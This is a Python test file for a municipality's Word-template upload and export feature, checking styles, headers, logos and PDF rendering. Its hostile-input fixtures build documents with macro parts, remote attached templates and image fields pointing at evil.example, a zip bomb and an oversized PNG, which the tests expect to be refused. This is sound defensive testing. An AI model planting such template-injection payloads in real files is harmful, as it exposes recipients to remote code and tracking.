"""The municipality's Word template: checked at upload (hostile files refused, nothing stored), used by every
export (styles, page setup, header and footer with logo), proved through LibreOffice, pdftotext and pdffonts."""

from __future__ import annotations

import datetime as dt
import io
import shutil
import struct
import subprocess
import zipfile
import zlib

import docx
import pytest
from docx.shared import Cm, Pt
from PIL import Image
from streamlit.testing.v1 import AppTest

from reviews import i18n
from reviews.errors import PermissionDenied
from reviews.exports.guard import scan_docx
from reviews.exports.word_template import TEMPLATE_TYPE, TemplateRefused, build_sample, inspect_template
from reviews.models import Role
from reviews.services import documents
from reviews.services import word_template as service
from tests.conftest import ROOT, demo_user
from tests.docx_pipeline import pdf_text, to_pdfs, tools_available
from tests.test_docx_export import _family_meeting

FONT = "Liberation Serif"  # not used by any export without a template
HEADER = "Hørsholm Kommune – Børne- og Familieafdelingen"
needs_libreoffice = pytest.mark.skipif(not tools_available() or not shutil.which("pdffonts"),
                                       reason="LibreOffice, pdftotext and pdffonts are needed")


def logo_png() -> bytes:
    image = Image.new("RGB", (240, 80), (0, 90, 160))
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def make_template(*, footer: str = "www.hoersholm.dk", drop_styles: tuple[str, ...] = ()) -> bytes:
    """A municipality's template made in the test: its own font, margins, a logo and a header text."""
    document = docx.Document()
    normal = document.styles["Normal"]
    normal.font.name, normal.font.size = FONT, Pt(12)
    for name in drop_styles:
        element = document.styles[name].element
        element.getparent().remove(element)
    section = document.sections[0]
    section.left_margin = section.right_margin = Cm(3)
    header = section.header
    header.paragraphs[0].add_run().add_picture(io.BytesIO(logo_png()), width=Cm(4))
    header.add_paragraph(HEADER)
    section.footer.paragraphs[0].add_run(footer)
    document.add_paragraph("Skabelonens eksempeltekst, som ikke må komme med")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, change) -> bytes:
    """The package with its parts changed by `change(parts)` (a dict name -> bytes)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    change(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, part in parts.items():
            out.writestr(name, part)
    return buffer.getvalue()


def as_dotx(data: bytes) -> bytes:
    def change(parts):
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
        assert TEMPLATE_TYPE.encode() in parts["[Content_Types].xml"]
    return rezip(data, change)


def add_rel(data: bytes, part: str, rel: str) -> bytes:
    def change(parts):
        parts[part] = parts[part].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return rezip(data, change)


def huge_png(width: int = 20000, height: int = 20000) -> bytes:
    """A real, valid 1-bit PNG of width x height (all black), about 50 kB packed."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def header_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n) for n in archive.namelist()
                if n.startswith("word/header") or n.startswith("word/_rels/header")}


def pdf_fonts(pdf) -> str:
    return subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, timeout=60, check=True).stdout


# --- the checks --------------------------------------------------------------------------------------------


def test_a_docx_and_a_dotx_template_are_accepted_as_a_document():
    data = make_template()
    info = inspect_template(data, "kommune.docx")
    assert (info.kind, info.body_font, info.images, info.header_text) == ("docx", FONT, 1, HEADER)
    dotx = inspect_template(as_dotx(data), "kommune.dotx")
    assert dotx.kind == "dotx"
    with zipfile.ZipFile(io.BytesIO(dotx.document)) as archive:
        types = archive.read("[Content_Types].xml")
    assert b"template.main+xml" not in types and b"document.main+xml" in types
    assert docx.Document(io.BytesIO(dotx.document)).styles["Normal"].font.name == FONT


def _macro(parts):
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 100
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                     b"</Types>")


def _cpr_footer(parts):
    parts["word/footer1.xml"] = parts["word/footer1.xml"].replace(b"www.hoersholm.dk", b"Kontakt 010203-1234")


HOSTILE = {
    "macros in a .docm": (lambda t: rezip(t, _macro), "kommune.docm", "wt.error.macros"),
    "macros in a .dotx": (lambda t: rezip(t, _macro), "kommune.dotx", "wt.error.macros"),
    "a linked image": (lambda t: add_rel(t, "word/_rels/document.xml.rels",
                                         '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/'
                                         'officeDocument/2006/relationships/image" Target="http://evil.example/x.png"'
                                         ' TargetMode="External"/>'), "k.docx", "wt.error.external"),
    "an attached template on a server": (
        lambda t: add_rel(t, "word/_rels/document.xml.rels",
                          '<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                          'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                          'TargetMode="External"/>'), "k.dotx", "wt.error.attached_template"),
    "a huge image": (lambda t: rezip(t, lambda p: p.update({"word/media/image1.png": huge_png()})), "k.docx",
                     "wt.error.image_pixels"),
    "a zip bomb": (lambda t: rezip(t, lambda p: p.update({"word/bomb.xml": b"<a>" + b" " * 15_000_000 + b"</a>"})),
                   "k.docx", "wt.error.zip_bomb"),
    "not a zip": (lambda t: b"Dette er ikke en Word-fil" * 10, "k.docx", "wt.error.not_word"),
    "a CPR number in the footer": (lambda t: rezip(t, _cpr_footer), "k.docx", "wt.error.cpr"),
    "a remote field": (lambda t: rezip(t, lambda p: p.update({"word/footer1.xml": p["word/footer1.xml"].replace(
        b"<w:t>www.hoersholm.dk</w:t>", b'<w:instrText>INCLUDEPICTURE "http://evil.example/x.png"</w:instrText>')})),
                       "k.docx", "wt.error.remote_field"),
    "a wrong file type": (lambda t: t, "k.pdf", "wt.error.file_type"),
}


@pytest.mark.parametrize("case", HOSTILE, ids=list(HOSTILE))
def test_a_hostile_template_is_refused_with_its_message_and_nothing_is_stored(db, users, case):
    admin = users[Role.ADMINISTRATOR]
    earlier = service.upload_template(db, admin, make_template(), "kommune.docx")
    audit_rows = db.fetchone("SELECT count(*) FROM audit_log")[0]
    make, name, key = HOSTILE[case]
    with pytest.raises(TemplateRefused) as refused:
        service.upload_template(db, admin, make(make_template()), name)
    assert refused.value.key == key
    for lang in ("da", "en"):
        message = i18n.t(key, lang, **refused.value.params)
        assert message != key and "{" not in message
    assert service.current_template(db, admin) == earlier  # the earlier template stays
    assert db.fetchone("SELECT count(*) FROM audit_log")[0] == audit_rows


def test_a_web_link_in_the_footer_is_allowed():
    template = add_rel(make_template(), "word/_rels/document.xml.rels",
                       '<Relationship Id="rId97" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                       'relationships/hyperlink" Target="https://www.hoersholm.dk" TargetMode="External"/>')
    assert inspect_template(template, "k.docx").kind == "docx"


def test_the_export_guard_finds_a_cpr_number_in_a_header_part():
    built = build_sample(inspect_template(make_template(), "k.docx").document, municipality="Hørsholm Kommune",
                         author="A", created=dt.datetime(2026, 1, 1))
    assert scan_docx(built) == []
    poisoned = rezip(built, lambda p: p.update({"word/header1.xml": p["word/header1.xml"].replace(
        HEADER.encode(), b"Familie 0102031234")}))
    [finding] = scan_docx(poisoned)
    assert finding.place[1] == ("word/header1.xml", None)


# --- the builder with a template -------------------------------------------------------------------------


def test_an_export_keeps_the_templates_styles_page_and_header_and_drops_its_body():
    template = inspect_template(make_template(drop_styles=("List Bullet", "List Number")), "k.docx").document
    data = build_sample(template, municipality="Hørsholm Kommune", author="Frederik Formand",
                        created=dt.datetime(2026, 3, 1))
    document = docx.Document(io.BytesIO(data))
    assert document.styles["Normal"].font.name == FONT and document.styles["Normal"].font.size == Pt(12)
    assert abs(document.sections[0].left_margin - Cm(3)) < Cm(0.01)
    headers = [p.text for p in document.sections[0].header.paragraphs]
    assert headers[:2] == ["", HEADER] and "Hørsholm Kommune" in headers[2:]
    assert "Side 1 af" in document.sections[0].footer.paragraphs[-1].text
    assert "www.hoersholm.dk" in document.sections[0].footer.paragraphs[0].text
    assert "Skabelonens eksempeltekst" not in "\n".join(p.text for p in document.paragraphs)
    assert document.core_properties.author == "Frederik Formand"
    parts = header_parts(data)
    assert b"image" in parts["word/_rels/header1.xml.rels"]
    # Lists created in a template without list styles still have bullets and numbers.
    assert document.styles["List Bullet"].element.find(".//{*}numId") is not None
    assert document.styles["List Number"].element.find(".//{*}numId") is not None


def test_without_a_template_the_export_is_as_before():
    data = build_sample(None, municipality="Hørsholm Kommune", author="A", created=dt.datetime(2026, 3, 1))
    document = docx.Document(io.BytesIO(data))
    assert document.styles["Normal"].font.name is None
    assert [p.text for p in document.sections[0].header.paragraphs] == ["Hørsholm Kommune",
                                                                         "Eksempel på kommunens design"]
    assert abs(document.sections[0].left_margin - Cm(2.5)) < Cm(0.01)


# --- the service ---------------------------------------------------------------------------------------------


def test_upload_replace_remove_and_sample_are_audited_and_for_the_administrator_only(db, users):
    admin = users[Role.ADMINISTRATOR]
    for role in (Role.CHAIR, Role.OMBUDSMAN, Role.REVIEWER, Role.READER):
        with pytest.raises(PermissionDenied):
            service.upload_template(db, users[role], make_template(), "k.docx")
    first = service.upload_template(db, admin, make_template(), "C:\\Skabeloner\\kommune.docx")
    assert (first.file_name, first.version, first.uploaded_by_name) == ("kommune.docx", 1, admin.full_name)
    second = service.upload_template(db, admin, as_dotx(make_template()), "kommune.dotx")
    assert (second.version, second.kind) == (2, "dotx")
    sample = docx.Document(io.BytesIO(service.sample_document(db, admin)))
    assert sample.sections[0].header.paragraphs[1].text == HEADER
    assert service.remove_template(db, admin).file_name == "kommune.dotx"
    assert service.current_template(db, admin) is None
    rows = db.fetchall("SELECT action FROM audit_log WHERE record_type = 'word_template' ORDER BY id")
    assert [r[0] for r in rows] == ["create", "change", "export", "delete"]


@needs_libreoffice
def test_every_export_takes_the_template_through_libreoffice(demo_db, tmp_path):
    admin = demo_user(demo_db, Role.ADMINISTRATOR)
    chair = demo_user(demo_db, Role.CHAIR)
    ombudsman = demo_user(demo_db, Role.OMBUDSMAN)
    service.upload_template(demo_db, admin, as_dotx(make_template()), "kommune.dotx")
    from reviews.services import mediation as mediation_service
    from reviews.services import meetings
    from reviews.services import reviews as review_service

    meeting = _family_meeting(demo_db, chair)
    review = review_service.find_review(demo_db, chair, "Task Force 4200")
    task_force = next(m for m in meetings.list_meetings(demo_db, chair, review.id)
                      if m.kind.value == "task force-møde")
    held = next(m for case in mediation_service.list_mediation_cases(demo_db, ombudsman)
                for m in mediation_service.get_mediation(demo_db, ombudsman, case.id).meetings
                if m.status.value == "afholdt")
    results = {
        "samlet-referat": documents.committee_minutes_document(demo_db, chair, meeting.id),
        "indkaldelse": documents.invitation_document(demo_db, chair, task_force.id),
        "dialogmoede": documents.dialogue_minutes_document(demo_db, ombudsman, held.id),
        "aarsberetning": documents.yearly_report_document(demo_db, chair, dt.date.today().year),
    }
    built = {name: result.data for name, result in results.items()}
    assert all(built.values())
    for data in built.values():
        assert any(b"image" in part for name, part in header_parts(data).items() if "_rels" in name)
    template_rows = demo_db.fetchall("SELECT details FROM audit_log WHERE action = 'export' ORDER BY id DESC LIMIT 4")
    assert all('"template": 1' in row[0] for row in template_rows)
    pdfs = to_pdfs(built, tmp_path)
    for name, pdf in pdfs.items():
        assert HEADER in pdf_text(pdf), name
        assert "LiberationSerif" in pdf_fonts(pdf), name
    service.remove_template(demo_db, admin)
    plain = documents.invitation_document(demo_db, chair, task_force.id).data
    pdf = to_pdfs({"uden-skabelon": plain}, tmp_path / "plain")["uden-skabelon"]
    assert HEADER not in pdf_text(pdf) and "LiberationSerif" not in pdf_fonts(pdf)


# --- the page ------------------------------------------------------------------------------------------------


def _page(monkeypatch, db_path, user) -> AppTest:
    monkeypatch.setenv("REVIEWS_DB", str(db_path))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
    at.session_state["user"] = user
    at.session_state["lang"] = "da"
    at.run()
    return at


def test_the_page_uploads_shows_refuses_and_removes(monkeypatch, demo_db_path):
    from reviews.storage.database import Database

    database = Database(str(demo_db_path))
    admin = demo_user(database, Role.ADMINISTRATOR)
    database.close()
    at = _page(monkeypatch, demo_db_path, admin)
    at.switch_page("pages/word_template.py").run()
    assert not at.exception and at.title[0].value == "Kommunens Word-skabelon"
    assert any("ingen skabelon" in i.value for i in at.info)
    at.file_uploader[0].set_value(("makro.dotx", rezip(make_template(), _macro), "application/octet-stream"))
    next(b for b in at.button if b.label == "Gem skabelonen").click().run()
    assert not at.exception
    assert any("makroer" in e.value for e in at.error)
    at.file_uploader[0].set_value(("kommune.dotx", as_dotx(make_template()), "application/octet-stream"))
    next(b for b in at.button if b.label == "Gem skabelonen").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("kommune.dotx" in s.value for s in at.success)
    assert any("Word-skabelon (.dotx)" in m.value and "kommune" in m.value for m in at.markdown)
    next(b for b in at.button if b.label == "Lav et eksempeldokument").click().run()
    assert not at.exception
    at.checkbox(key="wt_remove_confirm").check()
    next(b for b in at.button if b.label == "Fjern skabelonen").click().run()
    assert not at.exception
    assert any("er fjernet" in s.value for s in at.success)


@pytest.mark.parametrize("role", [r for r in Role if r != Role.ADMINISTRATOR], ids=lambda r: r.value)
def test_the_page_is_not_for_other_roles(monkeypatch, demo_db_path, role):
    from reviews.storage.database import Database

    database = Database(str(demo_db_path))
    user = demo_user(database, role)
    database.close()
    at = _page(monkeypatch, demo_db_path, user)
    with pytest.raises(ValueError):
        at.switch_page("pages/word_template.py").run()
